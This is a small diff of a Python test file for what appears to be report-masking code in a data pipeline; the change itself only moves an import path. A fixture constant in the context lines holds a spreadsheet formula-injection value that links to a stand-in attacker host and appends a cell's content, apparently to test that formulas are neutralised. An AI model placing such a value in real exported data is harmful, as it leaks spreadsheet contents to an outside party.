@@ -15,7 +15,7 @@ from pipelines.nightly import build_marts
 from pipelines.reports.masking import neutralise_formula
 from pipelines.reports.worklist import fetch_worklist, write_worklist
 from pipelines.warehouse import connect
-from tests.reports.residents import add_resident
+from tests.integration.reports.residents import add_resident
 
 NIGHT = dt.date(2040, 5, 1)
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
